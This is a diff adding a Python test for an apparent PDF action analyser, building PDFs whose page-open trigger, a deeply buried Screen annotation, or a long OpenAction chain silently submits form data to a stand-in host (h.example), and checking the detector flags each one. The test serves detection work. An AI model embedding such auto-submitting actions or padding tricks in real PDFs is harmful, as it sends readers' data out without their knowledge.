@@ -19,6 +19,25 @@ def test_automatic_follows_next_and_ends_in_loops() -> None:
         assert {(6, 0), (7, 0)} <= pdfactions.automatic(document)
 
 
+SUBMITS = "<< /S /SubmitForm /F (http://h.example/a) >>"
+
+
+def test_the_last_page_annotation_and_action_start_by_themselves(monkeypatch: pytest.MonkeyPatch) -> None:
+    with pikepdf.new() as document:
+        for _ in range(2100):
+            document.add_blank_page(page_size=(9, 9))
+        document.pages[-1].obj.AA = pikepdf.Object.parse(f"<< /O {SUBMITS} >>".encode())
+        document.save(out := io.BytesIO())
+    assert "PDF-SUBMIT-AUTO" in codes(take_apart(PDF, out.getvalue()))
+    notes = "<< /Subtype /Text /Rect [0 0 9 9] >> " * 1100 + f"<< /Subtype /Screen /Rect [0 0 9 9] /AA << /PO {SUBMITS} >> >>"
+    assert "PDF-SUBMIT-AUTO" in codes(take_apart(PDF, pdf(page=f"/Annots [{notes}]")))
+    chain = pdf(f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [{'<< /S /Named /N /FirstPage >> ' * 120}{SUBMITS}] >>")
+    found = take_apart(PDF, chain)
+    assert "PDF-SUBMIT-AUTO" in codes(found) and not [p for p in found if isinstance(p, Problem)]
+    monkeypatch.setattr(pdfactions, "MOST", 100)
+    assert [p.code.value for p in take_apart(PDF, chain) if isinstance(p, Problem)] == ["COUNT"]
+
+
 def test_text_strings() -> None:
     assert pdfactions._decode(b"\xfe\xff\x5b\xa2") == "客" and pdfactions._decode("客".encode()) == "客" and pdfactions._decode("客戶".encode("cp950")) == "客戶"
 
